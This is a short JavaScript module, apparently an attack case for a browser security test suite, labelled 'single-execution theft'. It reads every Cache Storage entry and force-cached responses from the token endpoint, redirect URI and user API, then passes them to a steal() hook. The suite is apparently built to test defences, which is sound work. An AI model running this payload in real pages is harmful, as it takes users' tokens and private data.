import { attack } from "../attack.js";

export default attack({
  name: "reads Cache Storage",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        it.steal(request.url, [...request.headers]);
        const response = await cache.match(request);
        it.steal(await response?.text());
      }
    }
    // The browser's HTTP cache, by a request that must not use the network.
    for (const url of [it.tokenEndpoint, it.redirectUri, `${it.apiUrl}me`]) {
      const cached = await fetch(url, { cache: "force-cache" }).catch(() => undefined);
      it.steal(await cached?.text());
    }
  },
});
